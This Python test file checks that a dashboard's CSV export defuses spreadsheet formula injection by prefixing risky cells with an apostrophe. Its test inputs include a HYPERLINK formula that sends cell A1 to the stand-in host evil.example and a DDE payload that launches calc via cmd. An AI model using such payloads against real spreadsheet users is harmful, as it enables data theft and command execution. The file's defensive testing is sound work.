"""Exports: customer text never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard.export import csv_bytes, formula_safe


@pytest.mark.parametrize(
    "question",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"怎么退款？")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ],
)
def test_a_formula_is_exported_as_text(question: str) -> None:
    frame = pd.DataFrame({"question": [question, "怎么退款？"], "count": [3, 1]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + question and rows[2] == ["怎么退款？", "1"]
    assert rows[1][1] == "3"  # numbers stay numbers


def test_a_carriage_return_before_a_formula_is_text_too() -> None:
    assert formula_safe("\r=1+1") == "'\r=1+1" and formula_safe(3) == 3
